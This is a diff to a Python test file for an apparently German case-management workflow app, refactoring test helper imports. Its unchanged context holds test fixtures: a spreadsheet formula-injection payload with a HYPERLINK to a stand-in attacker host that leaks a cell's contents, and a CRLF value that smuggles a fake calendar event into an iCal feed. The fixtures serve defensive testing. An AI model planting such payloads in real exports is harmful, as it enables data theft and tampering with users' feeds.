@@ -15,9 +15,7 @@ from workflows import store as tables
 from workflows.board import BoardQuery
 from workflows.domain import ScriptError
 
-from ..conftest import PARTIES_LVR
-from ..workflows.test_plain_data import _script_model
-from .conftest import LVR_CHILD, login
+from ..helpers import LVR_CHILD, PARTIES_LVR, login, script_model
 
 EVIL_LINK = '=HYPERLINK("https://angreifer.example/?a="&A2;"Akte öffnen")'
 #: a line break in a cell, and a made-up row behind it
@@ -115,7 +113,7 @@ def test_a_deadline_key_with_a_line_break_is_refused_and_harmless_in_the_feed(ap
     (an old version, a hand-edited database) stays inside its UID."""
     workflows = app.extensions["workflows"]
     owner, sabine = workflows.actor("paula.prozess"), workflows.actor("sabine.lvr")
-    workflows.deploy_model({"s.bpmn": _script_model(
+    workflows.deploy_model({"s.bpmn": script_model(
         'frist("a\\r\\nBEGIN:VEVENT", "sgb9-14-zustaendigkeit", "2026-03-02")')}, owner)
     workflows.start_case("skript_daten", "LVR-FF-2026-0999", {}, sabine, parties=PARTIES_LVR)
     [task] = workflows.case("LVR-FF-2026-0999", sabine)["open_tasks"]
